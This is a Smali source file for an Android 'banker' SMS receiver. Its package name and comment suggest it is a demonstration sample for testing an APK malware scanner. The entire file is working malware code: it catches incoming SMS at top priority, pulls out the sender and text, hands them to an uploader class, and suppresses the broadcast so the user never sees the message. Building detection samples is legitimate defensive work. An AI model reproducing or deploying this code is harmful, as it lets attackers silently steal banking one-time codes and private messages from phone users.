.class public Lorg/apkscan/sample/banker/SmsReceiver;
.super Landroid/content/BroadcastReceiver;
.source "SmsReceiver.java"

# SMS_RECEIVED at priority 999: reads the first PDU's text and sender, hides the broadcast
# and hands the text to Uploader (MAL-SMS-001, FR-SMS-001/002). Demonstration only.

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 6
    invoke-virtual {p2}, Landroid/content/Intent;->getExtras()Landroid/os/Bundle;
    move-result-object v0
    if-eqz v0, :done
    const-string v1, "pdus"
    invoke-virtual {v0, v1}, Landroid/os/Bundle;->get(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, [Ljava/lang/Object;
    const/4 v1, 0x0
    aget-object v0, v0, v1
    check-cast v0, [B
    const-string v1, "3gpp"
    invoke-static {v0, v1}, Landroid/telephony/SmsMessage;->createFromPdu([BLjava/lang/String;)Landroid/telephony/SmsMessage;
    move-result-object v0
    invoke-virtual {v0}, Landroid/telephony/SmsMessage;->getOriginatingAddress()Ljava/lang/String;
    move-result-object v1
    invoke-virtual {v0}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v2
    invoke-static {v1, v2}, Lorg/apkscan/sample/banker/Uploader;->send(Ljava/lang/String;Ljava/lang/String;)V
    invoke-virtual {p0}, Lorg/apkscan/sample/banker/SmsReceiver;->abortBroadcast()V
    :done
    return-void
.end method
